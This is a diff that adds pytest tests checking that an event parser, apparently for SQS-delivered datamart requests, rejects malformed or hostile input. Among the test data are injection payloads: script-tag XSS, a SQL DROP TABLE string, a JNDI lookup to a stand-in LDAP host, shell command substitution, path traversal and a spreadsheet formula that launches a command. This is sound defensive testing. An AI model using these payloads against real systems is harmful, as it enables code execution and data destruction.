@@ -358,3 +358,182 @@ def test_carried() -> None:
 def test_carried_is_cut(name: object, cut: str | None) -> None:
     """Texts are cut to the result's limits, in characters, and lone surrogates are replaced."""
     assert carried(event_of({"datamartName": name})).datamart_name == cut
+
+
+# ---- Input that attacks --------------------------------------------------------------------------------------------
+
+TWICE = "the body is no JSON: an object holds one key twice"
+TOO_DEEP = "the body is no JSON: it is nested deeper than 100 levels"
+REASON, AROUND = '"reason": "done"', '"resources": []'
+
+# What of a valid event is replaced, by what, and what is said of it.
+ATTACKS: dict[str, tuple[str, str, str]] = {
+    "one key twice": (REASON, '"dryRun": true, "dryRun": false, "reason": "done"', TWICE),
+    "one key twice, once escaped": (REASON, '"dryRun": true, "dry\\u0052un": false, "reason": "done"', TWICE),
+    "one key twice, around it": (AROUND, '"detail": {}', TWICE),
+    "one key twice, far inside": (AROUND, '"resources": [{"a": [{"b": 1, "b": 2}]}]', TWICE),
+    "nested": (AROUND, f'"resources": {"[" * 100}{"]" * 100}', TOO_DEEP),
+    "nested objects": (REASON, '"reason": ' + '{"a":' * 100 + "0" + "}" * 100, TOO_DEEP),
+    "nested beyond the parser": (AROUND, f'"resources": {"[" * 100_000}{"]" * 100_000}', TOO_DEEP),
+    "huge number": (AROUND, '"resources": [1e999]', "the body is no JSON: a number is too large"),
+    "huge negative number": (AROUND, '"resources": [-1E400]', "the body is no JSON: a number is too large"),
+    "ten thousand digits": (AROUND, f'"resources": [{"7" * 10_000}]', "the body is no JSON: a number is too long"),
+    "infinity": (AROUND, '"resources": [-Infinity]', "the body is no JSON: -Infinity is no JSON"),
+    "minus zero": (REASON, '"dryRun": -0, "reason": "done"', "detail.dryRun must be true or false"),
+    "one": (REASON, '"dryRun": 1.0, "reason": "done"', "detail.dryRun must be true or false"),
+    "prototype": (
+        REASON,
+        '"__proto__": {"dryRun": false}, "reason": "done"',
+        'detail must not have the unknown field "__p',
+    ),
+    "constructor": (REASON, '"constructor": {}, "reason": "done"', 'detail must not have the unknown field "constr'),
+    "no name of a field": (
+        REASON,
+        '"": 1, "\\u0000": 2, "reason": "done"',
+        'detail must not have the unknown field "", "\\u0',
+    ),
+    "list of requests": (
+        '"detail": {',
+        '"detail": [{}], "x": {',
+        "detail must be an object with the request; it is a list",
+    ),
+    "list of texts": (REASON, '"reason": ["done"]', "detail.reason must be a text"),
+}
+
+
+@pytest.mark.parametrize("case", ATTACKS)
+def test_attack(case: str) -> None:
+    """What a lenient parser would take for something is nothing, and is told so."""
+    of_it, instead, said = ATTACKS[case]
+    valid = json.dumps(event_of(MINIMAL))
+    assert of_it in valid
+
+    assert complaint(valid.replace(of_it, instead, 1)).startswith(said)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        json.dumps({"Records": [record_of(json.dumps(event_of(MINIMAL)))]}),
+        json.dumps([event_of(MINIMAL)]),
+        json.dumps(json.dumps(event_of(MINIMAL))),
+        "\ufeff" + json.dumps(event_of(MINIMAL)),
+        json.dumps(event_of(MINIMAL)) * 2,
+        json.dumps(event_of(MINIMAL)) + "\x00",
+    ],
+    ids=["an SQS event", "a list", "a text", "a byte order mark", "twice", "NUL"],
+)
+def test_event_in_something_else(body: str) -> None:
+    """An event is looked for in nothing else, however it was packed."""
+    assert complaint(body).startswith(("the event must", "the body is no JSON: "))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert('x')</script>",
+        "<img src=x onerror=alert(1)>&lt;",
+        "'; DROP TABLE datamarts; --",
+        "${jndi:ldap://elsewhere.test/a}",
+        "{{7*7}} %s %n {0} $(id) `id`",
+        "../../retirements/x/receipt.json",
+        "..%2f..%2f",
+        "\u202egnp.exe\u2066",
+        "\u2028\u2029\ufeff\u200b",
+        "e\u0301" * 100,
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_text_stays_data(text: str) -> None:
+    """What would be code, a path or a trick elsewhere is a text like others, and taken exactly."""
+    request = parsed(
+        event_of({**MINIMAL, "datamartName": text, "requestedBy": text, "reason": text, "planId": text[:99]})
+    )
+
+    assert (request.datamart_name, request.requested_by, request.reason, request.plan_id) == (
+        text,
+        text,
+        text,
+        text[:99],
+    )
+
+
+TIMES = {
+    "0000-01-01T00:00:00Z": False,
+    "0001-01-01T00:00:00Z": True,
+    "0001-01-01T00:00:00+23:59": False,
+    "9999-12-31T23:59:59Z": True,
+    "9999-12-31T23:59:59-23:59": False,
+    "10000-01-01T00:00:00Z": False,
+    "-2026-03-01T12:00:00Z": False,
+    "2026-03-01T24:00:00Z": False,
+    "2026-03-01T23:59:60Z": False,
+    "2026-03-01T12:00:00+24:00": False,
+    "2026-03-01T12:00:00+99:99": False,
+    "2026-W09-7T12:00:00Z": False,
+    "2026-03-01 12:00:00Z": False,
+    "2026-03-01T12:00:00Z\n": False,
+    "2026-03-01T12:00:00Z\x00": False,
+    "\uff12\uff10\uff12\uff16-03-01T12:00:00Z": False,
+    f"2026-03-01T12:00:00.{'0' * 100_000}Z": True,
+}
+
+
+@pytest.mark.parametrize("time", TIMES, ids=lambda time: ascii(time)[:32])
+def test_absurd_time(time: str) -> None:
+    """A time is one that RFC 3339 and the calendar have, and no later than its arrival."""
+    if TIMES[time]:
+        assert parsed(event_of(MINIMAL, time=time)).requested_at <= START
+    else:
+        assert complaint(event_of(MINIMAL, time=time)).startswith("time must be an RFC 3339 time with offset")
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"attributes": ...},
+        {"attributes": []},
+        {"attributes": {}},
+        {"attributes": {"SentTimestamp": "now", "ApproximateReceiveCount": "1"}},
+        {"attributes": {"SentTimestamp": "9" * 30, "ApproximateReceiveCount": "1"}},
+        {"attributes": {"SentTimestamp": "9" * 10_000, "ApproximateReceiveCount": "1"}},
+        {"attributes": {"SentTimestamp": "0", "ApproximateReceiveCount": "-3"}},
+        {"attributes": {"SentTimestamp": "0", "ApproximateReceiveCount": "0"}},
+        {"attributes": {"SentTimestamp": 0, "ApproximateReceiveCount": 1}},
+        {"body": ...},
+        {"body": None},
+        {"body": {"detail": {}}},
+        {"receiptHandle": ...},
+        {"receiptHandle": 7},
+    ],
+    ids=lambda fields: str(fields)[:64],
+)
+def test_what_pretends_to_be_a_message(fields: dict[str, object]) -> None:
+    """A record that SQS would not make is no message: the event is taken as such, and rejected."""
+    record = {name: value for name, value in {**record_of("{}"), **fields}.items() if value is not ...}
+
+    delivery = receive({"Records": [record]}, "invocation-1", START)
+
+    assert (delivery.arrived_at, delivery.receive_count, delivery.receipt_handle) == (START, 1, None)
+    assert complaint(delivery.body).startswith("the event must have the field")
+
+
+@pytest.mark.parametrize("depth", [500, 20_000])
+def test_event_as_such_that_is_nested(depth: int) -> None:
+    """An event as such that cannot be written down is no event, and no error of ours."""
+    event: dict[str, Any] = event_of(MINIMAL)
+    inner = event
+    for _ in range(depth):
+        inner["x"] = {}
+        inner = inner["x"]
+
+    assert complaint(receive(event, "invocation-1", START).body).startswith("the body is no JSON")
+
+
+def test_one_megabyte() -> None:
+    """An event as large as SQS takes is read whole: what is around a request does not matter, what is in it does."""
+    ballast = "é" * 500_000
+
+    assert parsed(event_of(MINIMAL, resources=[ballast])) == parsed(event_of(MINIMAL))
+    assert complaint(event_of({**MINIMAL, "reason": ballast})).endswith("(500000 characters)")
+    assert complaint(event_of({**MINIMAL, ballast: 1})).startswith("detail must not have the unknown field")
